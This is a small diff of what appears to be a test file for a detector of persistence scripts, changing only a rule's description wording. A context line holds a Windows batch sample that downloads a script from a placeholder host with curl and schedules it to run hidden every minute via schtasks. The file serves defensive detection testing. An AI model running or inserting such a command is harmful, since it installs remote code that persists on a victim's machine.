@@ -383,7 +383,7 @@ examine(persists, {
           '@echo off\r\ncurl -s -o "%APPDATA%\\helper.js" https://toast.invalid/h.js\r\nschtasks /create /f /tn "Helper" /sc minute /tr "wscript.exe //B \\"%APPDATA%\\helper.js\\""\r\n',
       },
       weight: 'strong',
-      says: ['so that they start a download'],
+      says: ['by which a download is started'],
     },
     {
       when: 'a script puts a program of its own into the schedule, when it is called',
